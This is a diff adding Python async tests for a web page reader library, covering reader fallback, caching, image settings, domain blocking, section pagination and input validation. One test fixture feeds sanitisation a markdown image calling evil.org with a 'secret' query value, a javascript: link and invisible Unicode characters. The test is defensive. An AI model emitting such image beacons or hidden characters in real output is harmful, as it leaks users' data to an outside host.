@@ -295,3 +295,116 @@ async def test_a_page_that_has_not_changed_is_not_read_again() -> None:
     assert again.content == first.content
     assert again.snapshot == first.snapshot
     assert not again.cached
+
+
+class FailingReader:
+    """Says itself that it failed, as the contract's `ReadResult` does."""
+
+    name = "failing"
+
+    async def read_url(self, url: str) -> dict[str, Any]:
+        return {"url": url, "title": "", "content": "", "content_length": 0, "success": False, "error": "Jina is down"}
+
+
+async def test_a_reader_that_says_it_failed_has_failed_and_the_next_one_reads(site: LoopbackServer) -> None:
+    """S3-5, S3-28, S3-39"""
+    async with web(site) as client:
+        client.register(FailingReader())
+        alone = await client.open_page(f"{site.url}/article", reader="failing")
+        taken_over = await client.open_page(f"{site.url}/article", reader=["failing", "builtin"])
+    assert (alone.success, alone.outcome, alone.error) == (False, "unreachable", "Jina is down")
+    assert taken_over.success
+    assert taken_over.reader == "builtin"
+
+
+class HostileReader:
+    """A reader somebody else runs, handing over what it found."""
+
+    name = "hostile"
+
+    async def read_url(self, url: str) -> dict[str, Any]:
+        text = (
+            "# T\n\nSee ![x](https://evil.org/p.png?d=secret) and [click](javascript:alert(1)).\u200b\U000e0041 Words."
+        )
+        return {"url": url, "title": "T", "content": text, "content_length": len(text), "success": True}
+
+
+async def test_what_a_cloud_reader_hands_over_is_washed_too(site: LoopbackServer) -> None:
+    async with web(site) as client:
+        client.register(HostileReader())
+        page = await client.open_page(f"{site.url}/article", reader="hostile")
+    assert "![" not in page.content
+    assert "javascript:" not in page.content
+    assert "\u200b" not in page.content
+    assert "Words." in page.content
+    assert page.signals
+
+
+async def test_the_reader_asked_for_is_the_one_that_reads(site: LoopbackServer) -> None:
+    async with web(site) as client:
+        client.register(PlainReader())
+        assert (await client.open_page(f"{site.url}/article", reader="plain")).reader == "plain"
+        assert (await client.open_page(f"{site.url}/article", reader="builtin")).reader == "builtin"
+        assert (await client.open_page(f"{site.url}/article", reader="plain")).cached
+
+
+async def test_without_a_cache_pages_are_read_again(site: LoopbackServer) -> None:
+    async with web(site, cache=False) as client:
+        await client.open_page(f"{site.url}/article")
+        await client.open_page(f"{site.url}/article")
+    assert len(site.received) == 2
+
+
+async def test_images_are_kept_when_the_setting_says_so() -> None:
+    def answer(_received: Received) -> Answer:
+        cup = '<p>A cup <img src="/p.png" alt="A cup"> as it should be.</p>'
+        return Answer(f"<title>T</title><article><p>{PARAGRAPH * 3}</p>{cup}<p>{PARAGRAPH * 3}</p></article>")
+
+    for images, shown in ((False, False), (True, True)):
+        with LoopbackServer(answer) as server:
+            async with web(server, images=images) as client:
+                assert ("![A cup](" in (await client.open_page(f"{server.url}/")).content) is shown
+
+
+async def test_rules_that_changed_since_a_page_was_read_apply_to_it(site: LoopbackServer, tmp_path: Any) -> None:
+    """S3-24"""
+    store = str(tmp_path / "state.sqlite")
+    async with web(site, store=store) as client:
+        page = await client.open_page(f"{site.url}/moved")
+    async with web(site, store=store, blocked_domains=["127.0.0.1"]) as client:
+        with pytest.raises(seekread.Refused):
+            await client.snapshot(page.snapshot or "")
+
+
+async def test_a_section_is_counted_as_a_section(site: LoopbackServer) -> None:
+    async with web(site) as client:
+        section = await client.open_page(f"{site.url}/article", section="Part 5")
+        first = await client.open_page(f"{site.url}/article", section="Part 5", max_length=100)
+        rest = await client.open_page(
+            f"{site.url}/article", section="Part 5", max_length=5000, offset=first.next_offset or 0
+        )
+    assert "complete section" in section.notes[-1]
+    assert section.truncated
+    assert f"offset={first.next_offset}" in first.notes[-1]
+    assert first.content + rest.content == section.content
+
+
+@pytest.mark.parametrize("options", [{"max_length": 0}, {"max_length": -1}, {"max_length": True}])
+async def test_a_length_that_makes_no_sense_is_the_callers_mistake(site: LoopbackServer, options: Any) -> None:
+    async with web(site) as client:
+        with pytest.raises(InvalidQuery, match="max_length"):
+            await client.open_page(f"{site.url}/article", **options)
+        with pytest.raises(InvalidQuery, match="max_length"):
+            await client.open_pages([f"{site.url}/article"], **options)
+
+
+async def test_a_single_address_is_not_a_list_of_letters(site: LoopbackServer) -> None:
+    async with web(site) as client:
+        with pytest.raises(InvalidQuery, match="list of addresses"):
+            await client.open_pages(f"{site.url}/article")
+
+
+async def test_an_unknown_reader_is_one_error_not_a_group_of_them(site: LoopbackServer) -> None:
+    async with web(site) as client:
+        with pytest.raises(seekread.Misconfigured, match="unknown provider 'nope'"):
+            await client.open_pages([site.url, f"{site.url}/article"], reader="nope")
